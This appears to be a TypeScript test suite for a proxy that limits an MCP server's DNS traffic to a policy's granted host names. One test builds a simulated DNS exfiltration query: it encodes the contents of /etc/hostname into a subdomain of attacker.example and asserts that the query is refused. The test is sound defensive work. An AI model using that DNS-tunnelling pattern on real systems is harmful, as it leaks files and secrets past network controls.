/**
 * Issue 29: DNS is names, not a port. Under C-full a policy that names a host sends every port-53
 * datagram and connection of the server to the proxy's resolver, which answers the granted name
 * (asking the upstream resolver, here one of the test's own that records everything it is sent)
 * and refuses everything else: other names, a name carrying a file in base32, non-DNS payloads
 * over UDP and TCP, a 60,000-byte datagram. The real stub resolvers answer: c-ares (Node's
 * dns.resolve4), the C library (dns.lookup) and a query over TCP.
 */
import { spawnSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { MCPGUARD, makeWorkspace, RawProxy } from "./helpers.ts";

const CLIENT = join(import.meta.dirname, "fixtures", "dns-client.mjs");
const doctor = spawnSync(process.execPath, [MCPGUARD, "doctor", "--json"], { encoding: "utf8" });
const l3Ready = doctor.status === 0;
if (!l3Ready)
  console.warn(`L3 DNS tests skipped: mcpguard doctor says L3 cannot run here:\n${doctor.stdout}`);

/** The question name of a DNS message (uncompressed), or undefined. */
function questionName(msg: Buffer): string | undefined {
  const labels: string[] = [];
  let at = 12;
  while (at < msg.length && msg[at] !== 0) {
    const length = msg[at] as number;
    if (length > 63) return undefined;
    labels.push(msg.subarray(at + 1, at + 1 + length).toString("latin1"));
    at += 1 + length;
  }
  return at < msg.length ? labels.join(".") : undefined;
}

/** An answer to `msg`: one A record 192.0.2.7 for type A, no records for other types. */
function answer(msg: Buffer): Buffer {
  let end = 12;
  while (msg[end] !== 0) end += 1 + (msg[end] as number);
  end += 5;
  const type = msg.readUInt16BE(end - 4);
  const header = Buffer.from(msg.subarray(0, 12));
  header.writeUInt16BE(0x8180, 2);
  header.writeUInt16BE(type === 1 ? 1 : 0, 6);
  header.writeUInt16BE(0, 8);
  header.writeUInt16BE(0, 10);
  const record =
    type === 1 ? Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 192, 0, 2, 7]) : Buffer.alloc(0);
  return Buffer.concat([header, msg.subarray(12, end), record]);
}

/** The upstream resolver: answers over UDP and TCP on one port, and keeps every message it got. */
async function upstream() {
  const received: { transport: string; bytes: number; name: string | undefined }[] = [];
  const udp = createSocket("udp4");
  udp.on("message", (msg, from) => {
    received.push({ transport: "udp", bytes: msg.length, name: questionName(msg) });
    udp.send(answer(msg), from.port, from.address);
  });
  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", () => resolve()));
  const port = udp.address().port;
  const tcp: Server = createServer((socket) => {
    let buffered = Buffer.alloc(0);
    socket.on("data", (chunk) => {
      buffered = Buffer.concat([buffered, chunk]);
      while (buffered.length >= 2 && buffered.length >= 2 + buffered.readUInt16BE(0)) {
        const msg = buffered.subarray(2, 2 + buffered.readUInt16BE(0));
        buffered = buffered.subarray(2 + msg.length);
        received.push({ transport: "tcp", bytes: msg.length, name: questionName(msg) });
        const reply = answer(msg);
        socket.write(Buffer.concat([Buffer.from([reply.length >> 8, reply.length & 0xff]), reply]));
      }
    });
  });
  await new Promise<void>((resolve) => tcp.listen(port, "127.0.0.1", () => resolve()));
  return {
    address: `127.0.0.1:${port}`,
    received,
    close: () => {
      udp.close();
      tcp.close();
    },
  };
}

let scratch: string;
let work: string;
let policy: string;
beforeEach(() => {
  ({ scratch, work } = makeWorkspace("mcpguard-dns-"));
  policy = join(scratch, "policy.json");
  const tool = { args: { name: "text", hex: "text", host: "text" }, network: ["granted.example:443"] };
  const tools = Object.fromEntries(["resolve", "lookup", "tcp", "udp", "stream"].map((name) => [name, tool]));
  writeFileSync(policy, JSON.stringify({ version: 1, server: "dns-client", tools }));
});
afterEach(() => spawnSync("rm", ["-rf", scratch]));

const text = (message: unknown) =>
  ((message as { result: { content: { text: string }[] } }).result.content[0] as { text: string }).text;

describe.skipIf(!l3Ready)(
  "C-full: the server's DNS goes to a resolver that answers the policy's names only",
  () => {
    it("answers the granted name through c-ares, the C library and TCP, refuses every other name and every non-DNS payload, and the upstream sees only the granted name", async () => {
      const up = await upstream();
      const log = join(scratch, "audit.ndjson");
      const proxy = new RawProxy(
        [
          "--config",
          "C-full",
          "--policy",
          policy,
          "--dns-upstream",
          up.address,
          "--audit-log",
          log,
          "--",
          process.execPath,
          CLIENT,
        ],
        { cwd: work },
      );
      await proxy.initialize();
      let id = 0;
      const call = async (name: string, args: Record<string, string>) => {
        proxy.request(++id, "tools/call", { name, arguments: args });
        return text(await proxy.next());
      };
      const secret = readFileSync("/etc/hostname", "utf8").trim() || "host";
      const base32 = Buffer.from(`${secret}-secret-file-content`).toString("hex").slice(0, 60);
      const results = {
        resolve: await call("resolve", { name: "granted.example" }),
        resolveCase: await call("resolve", { name: "GrAnTeD.Example" }),
        lookup: await call("lookup", { name: "granted.example" }),
        tcp: await call("tcp", { name: "granted.example" }),
        other: await call("resolve", { name: "other.example" }),
        exfil: await call("resolve", { name: `${base32}.attacker.example` }),
        otherTcp: await call("tcp", { name: "other.example" }),
        junkUdp: await call("udp", { hex: "deadbeef".repeat(16) }),
        junkUdpElsewhere: await call("udp", { hex: "deadbeef".repeat(16), host: "192.0.2.53" }),
        bigUdp: await call("udp", { hex: "ab".repeat(60_000) }),
        junkTcp: await call("stream", { hex: "474554202f20485454502f312e310d0a0d0a" }),
      };
      proxy.child.stdin.end();
      expect((await proxy.exited).code).toBe(0);
      up.close();
      expect(results).toEqual({
        resolve: '["192.0.2.7"]',
        resolveCase: '["192.0.2.7"]',
        lookup: '["192.0.2.7"]',
        tcp: "reply 51 rcode 0 answers 1",
        other: "error EREFUSED",
        exfil: "error EREFUSED",
        otherTcp: "reply 33 rcode 5 answers 0",
        junkUdp: "no reply",
        junkUdpElsewhere: "no reply",
        bigUdp: expect.stringMatching(/^(no reply|error EMSGSIZE)$/),
        junkTcp: "reply 0",
      });
      // Nothing but the granted name, in lower case, reached the upstream resolver.
      expect(up.received.length).toBeGreaterThan(0);
      expect(new Set(up.received.map((r) => r.name))).toEqual(new Set(["granted.example"]));
      // Each refusal is in the audit log, without the labels that carried the data.
      const refused = readFileSync(log, "utf8")
        .split("\n")
        .filter(Boolean)
        .map((line) => JSON.parse(line))
        .filter((r) => r.type === "kernel" && r.event === "dns-refused");
      expect(refused.every((r) => r.decision === "deny" && r.backend === "proxy-resolver")).toBe(true);
      expect(refused.map((r) => r.name)).toContain("…(1 labels).attacker.example");
      expect(readFileSync(log, "utf8")).not.toContain(base32);
      expect(refused.some((r) => String(r.reason).startsWith("not a DNS query"))).toBe(true);
    });

    it("a policy of addresses only gets no resolver: port 53 is refused like any other port", async () => {
      const byAddress = join(scratch, "addresses.json");
      const tool = { args: { name: "text", hex: "text", host: "text" }, network: ["192.0.2.1:443"] };
      writeFileSync(
        byAddress,
        JSON.stringify({ version: 1, server: "dns-client", tools: { udp: tool, resolve: tool } }),
      );
      const proxy = new RawProxy(
        ["--config", "C-full", "--policy", byAddress, "--", process.execPath, CLIENT],
        {
          cwd: work,
        },
      );
      await proxy.initialize();
      proxy.request(1, "tools/call", { name: "udp", arguments: { hex: "deadbeef" } });
      expect(text(await proxy.next())).toBe("error EPERM");
      proxy.child.stdin.end();
      expect((await proxy.exited).code).toBe(0);
    });
  },
);
